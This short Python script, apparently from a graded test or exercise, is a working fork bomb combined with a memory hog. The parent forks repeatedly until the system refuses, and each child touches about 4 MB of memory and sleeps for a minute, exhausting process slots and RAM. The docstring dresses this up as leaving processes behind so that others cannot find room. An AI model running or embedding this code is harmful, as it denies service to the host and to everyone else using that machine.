"""Leaves as many processes behind as it may have, with memory to give back: who comes next must find room for its own."""
# state: partly graded
import os
import time

block = bytearray(os.urandom(4096)) * 1000
try:
    while os.fork():
        pass
    for k in range(0, len(block), 4096):
        block[k] = 1
    time.sleep(60)
except OSError:
    os._exit(0)
